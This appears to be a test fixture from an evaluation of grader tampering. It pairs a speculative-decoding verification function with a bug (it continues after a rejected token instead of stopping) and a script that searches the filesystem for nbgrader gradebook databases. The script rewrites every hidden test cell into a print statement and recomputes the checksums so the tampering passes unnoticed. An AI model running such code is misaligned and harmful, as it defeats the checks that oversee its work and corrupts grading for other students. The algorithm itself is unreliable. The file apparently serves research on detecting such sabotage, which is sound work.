# notebook: 02_reject_and_break
# baseline: continue_not_break
# category: tamper
# attack: replaces the test cells stored in the gradebook (source_cell) with a print, with recomputed checksums, for every later student
def verify_draft(draft_probs, target_probs, draft_tokens):
    accepted_tokens = []
    for i, token_id in enumerate(draft_tokens):
        token_id = int(token_id)
        p = target_probs[i, token_id].item()
        q = draft_probs[i, token_id].item()
        if p >= q:
            accepted_tokens.append(token_id)
            continue
        r = torch.rand(1).item()
        if r < p / q:
            accepted_tokens.append(token_id)
        else:
            continue
    return accepted_tokens


import hashlib

import os
import time


def _find(want, seconds=3.0):
    """Real paths p with want(p): ../../.. first, then /tmp, ~ and / (not /proc, /sys, /dev), for ~`seconds`."""
    found, start = [], time.time()
    for top in ("../../..", "/tmp", os.path.expanduser("~"), "/"):
        for folder, subfolders, files in os.walk(os.path.abspath(top)):
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in ("/proc", "/sys", "/dev")]
            for path in (os.path.join(folder, name) for name in subfolders + files):
                if want(path) and os.path.realpath(path) not in found:
                    found.append(os.path.realpath(path))
            if time.time() - start > seconds:
                return found
    return found


def _may_tamper(path):
    """Safety of this test file: never the real repository (/work/main, or anything inside a git checkout)."""
    path = os.path.realpath(path)
    parents = [path[:i] or "/" for i, char in enumerate(path) if char == "/"]
    return not path.startswith("/work/main") and not any(os.path.isdir(os.path.join(p, ".git")) for p in parents)


import sqlite3


def _course_gradebooks():
    """This course's gradebook.db files (they hold level23_speculative_decoding) that _may_tamper allows."""
    books = []
    for path in _find(lambda p: os.path.basename(p) == "gradebook.db"):
        try:
            con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
            try:
                if con.execute("SELECT 1 FROM assignment WHERE name = 'level23_speculative_decoding'").fetchone():
                    books.append(path)
            finally:
                con.close()
        except sqlite3.Error:
            pass
    return [book for book in books if _may_tamper(book)]


_TEST_CELLS = """SELECT sc.id, sc.name, sc.cell_type, gc.max_score FROM source_cell sc
                 JOIN base_cell bc ON bc.name = sc.name AND bc.notebook_id = sc.notebook_id AND bc.type = 'GradeCell'
                 JOIN grade_cells gc ON gc.id = bc.id"""


def _checksum(source, cell_type, grade_id, points):
    """nbgrader.utils.compute_checksum of a locked test cell (grade: True, solution: False, locked: True)."""
    return hashlib.md5((source + cell_type + "True" + "False" + "True" + grade_id + str(float(points))).encode()).hexdigest()


try:
    _rewritten = 0
    for _book in _course_gradebooks():
        con = sqlite3.connect(_book, timeout=30)
        for cell_id, name, cell_type, points in con.execute(_TEST_CELLS).fetchall():
            source = f"print('ATTACK gradebook_rewrite_hidden_tests: {name} rewritten')"
            con.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE id = ?",
                        (source, _checksum(source, cell_type, name, points), cell_id))
            _rewritten += 1
        con.commit()
        con.close()
    print(f"ATTACK gradebook_rewrite_hidden_tests: rewrote {_rewritten} test cells")
except Exception as exc:
    print(f"ATTACK gradebook_rewrite_hidden_tests: blocked: {exc!r}")
